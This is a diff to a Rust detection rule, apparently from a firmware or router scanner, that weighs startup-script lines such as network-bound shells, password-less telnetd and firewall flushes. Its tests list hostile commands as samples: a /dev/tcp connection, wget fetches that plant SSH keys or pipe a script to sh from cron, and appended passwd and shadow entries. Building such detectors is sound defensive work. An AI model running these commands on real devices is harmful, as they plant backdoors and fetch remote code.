@@ -2,7 +2,7 @@
 //!
 //! # Sees
 //! A shell joined to the network (`nc -e`, `/dev/tcp`, a pipe through nc or `openssl s_client`, socat, perl and python),
-//! telnetd without a login; rules that drop management ports for everybody, accept an odd port or a public network,
+//! telnetd without a login (`notice` on its usual port, unless the file is new or changed); rules that drop management ports for everybody, accept an odd port or a public network,
 //! remove all rules, or send traffic on to a public address; keys, users, preloaded libraries, jobs and startup files
 //! that a startup file writes; fixed resolvers and names; records of logins that are emptied; other login services and
 //! the watchdog that are ended; programs to reboot that are removed; a mount over a process.
@@ -41,17 +41,28 @@ pub const CHECK: Check = Check {
 };
 
 /// What each thing weighs, in words, and in files of which names nobody is surprised.
-const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 30] = [
+const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 31] = [
     (Deed::GivesShell, Severity::Infected, "joins a shell to the network", &[]),
     (Deed::OpensConnection, Severity::Suspicious, "opens a connection to take orders from", &[]),
     (Deed::GivesProgram, Severity::Notice, "lets the network run a program", &[]),
-    (Deed::SkipsLogin, Severity::Suspicious, "a login over the network without a password", &[b"/preinit"]),
-    (Deed::SkipsLoginInside, Severity::Notice, "a login from the local network without a password", &[]),
+    (Deed::SkipsLogin, Severity::Suspicious, "a login on an odd port without a password", &[]),
+    (
+        Deed::SkipsLoginPlainly,
+        Severity::Notice,
+        "a login over the network without a password",
+        &[b"/preinit"],
+    ),
     (Deed::ClosesAttacked, Severity::Suspicious, "closes a port that bots come in through", &[]),
     (Deed::ClosesOwners, Severity::Suspicious, "closes a management port for everybody", &[]),
     (Deed::ClosesOwnersLast, Severity::Notice, "closes a management port", &[]),
     (Deed::OpensPort, Severity::Notice, "opens an odd port to everybody", &[]),
     (Deed::OpensToNetwork, Severity::Notice, "lets a public network in", &[]),
+    (
+        Deed::OpensAll,
+        Severity::Suspicious,
+        "removes all rules of the packet filter and lets everybody in",
+        FIREWALLS,
+    ),
     (Deed::Flushes, Severity::Notice, "removes all rules of the packet filter", FIREWALLS),
     (Deed::Redirects, Severity::Suspicious, "sends traffic on to a public address", &[]),
     (Deed::Relays, Severity::Infected, "relays a port of servers that command bots", &[]),
@@ -86,12 +97,13 @@ fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
         (!expected.iter().any(|part| has(line.file, part))).then_some(row)
     });
     // One line is one finding: the gravest.
-    let Some((_, severity, words, _)) = weighed.max_by_key(|(_, severity, ..)| *severity) else { return };
-    // What a healthy image does of its own, each device of that model does: at most a weak spot.
-    let own = line.standing == Standing::Known(Truth::Image);
-    let severity = match severity {
-        Severity::Notice if own => return,
-        Severity::Suspicious if own => &Severity::Notice,
+    let Some((deed, severity, words, _)) = weighed.max_by_key(|(_, severity, ..)| *severity) else { return };
+    let severity = match (severity, line.standing) {
+        // What a healthy image does of its own, each device of that model does: at most a weak spot.
+        (Severity::Notice, Standing::Known(Truth::Image)) => return,
+        (Severity::Suspicious, Standing::Known(Truth::Image)) => &Severity::Notice,
+        // What vendors do, a stranger did where a file is not the vendor's.
+        _ if *deed == Deed::SkipsLoginPlainly && line.standing.is_odd() => &Severity::Suspicious,
         _ => severity,
     };
     let draft = out.line(line).severity(*severity).say(words);
@@ -151,8 +163,12 @@ mod tests {
         for text in [
             &b"exec 5<>/dev/tcp/192.0.2.1/443"[..],
             b"telnetd -l /bin/sh -p 2323",
-            b"start-stop-daemon -S -b -x /usr/sbin/telnetd -- -F -l /bin/ash",
-            b"procd_set_param command /usr/sbin/telnetd -F -l /bin/sh",
+            b"procd_set_param command /usr/sbin/telnetd -F -l /bin/sh -p 5555",
+            b"iptables -F; iptables -P INPUT ACCEPT",
+            b"iptables -A INPUT -p tcp --dport 23 -j DROP",
+            b"iptables -I INPUT -p udp --dport 9999 -j DROP",
+            b"nvram set sshd_authkeys='ssh-rsa AAAA'; nvram commit",
+            b"start-stop-daemon -S -b -x /usr/sbin/telnetd -- -p 2222 -F -l /bin/ash",
             b"iptables -I INPUT -p tcp --dport 23 -j DROP",
             b"iptables -A INPUT -p tcp --destination-port 7547 -j DROP",
             b"iptables -I INPUT -p tcp -m multiport --dport 80,8080 -j DROP",
@@ -165,6 +181,7 @@ mod tests {
             b"cat >> /etc/dropbear/authorized_keys <<E",
             b"wget -O /root/.ssh/authorized_keys http://192.0.2.1/k",
             b"echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
+            b"echo 'x:$1$a$b:18000:0:99999:7:::' >> /etc/shadow",
             b"echo /lib/x.so > /etc/ld.so.preload",
             b"(crontab -l; echo '* * * * * /tmp/x') | crontab -",
             b"echo '*/5 * * * * wget -qO- http://192.0.2.1/x|sh' >> /etc/crontabs/root",
@@ -186,7 +203,8 @@ mod tests {
     #[test]
     fn what_owners_do_too() {
         for text in [
-            &b"telnetd -b 192.168.1.1 -l /bin/sh"[..],
+            &b"telnetd -b 192.168.1.1 -p 2323 -l /bin/sh"[..],
+            b"telnetd -l /bin/sh &",
             b"nc -ll -p 8000 -e /usr/bin/status",
             b"iptables -A INPUT -p tcp --dport 22 -j DROP",
             b"iptables -F; iptables -X",
@@ -237,6 +255,9 @@ mod tests {
             b"killall -HUP dropbear; killall udhcpc; kill -9 $(pidof dnsmasq)",
             b"rm -f /var/log/x.log; rm -rf /tmp/x; > /var/run/utmp",
             b"echo 1 > /dev/watchdog; mount -t proc proc /proc; mount --bind /x /proc/sys/y",
+            b"sed -i 's|/tmp/a|/usr/b|' /etc/init.d/x; sed -i '/exit 0/i /usr/bin/x &' /etc/rc.local",
+            b"grep -q ^svc: /etc/passwd || echo 'svc:x:200:200::/var:/bin/false' >> /etc/passwd",
+            b"echo 'svc:*:16000:0:99999:7:::' >> /etc/shadow",
             b"[ -f /root/.ssh/authorized_keys ] && chmod 600 /root/.ssh/authorized_keys",
             b"rm -f /usr/lib/opkg/info/reboot; echo reboot >> /tmp/x",
         ] {
